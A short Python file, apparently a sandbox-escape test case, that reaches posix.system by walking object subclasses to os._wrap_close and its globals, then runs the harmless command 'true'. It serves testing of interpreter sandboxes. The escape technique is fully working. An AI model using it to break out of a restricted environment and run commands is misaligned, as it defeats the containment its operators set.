# attack: reach os through the subclasses of object (os._wrap_close)
# outcome: error no shell ran
# control: outside

import os

found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"]
system = found[0].__init__.__globals__["posix"].system if "posix" in found[0].__init__.__globals__ else None
system = system or found[0].__init__.__globals__["sys"].modules["posix"].system
if system("true") != 0:
    raise OSError("no shell ran")
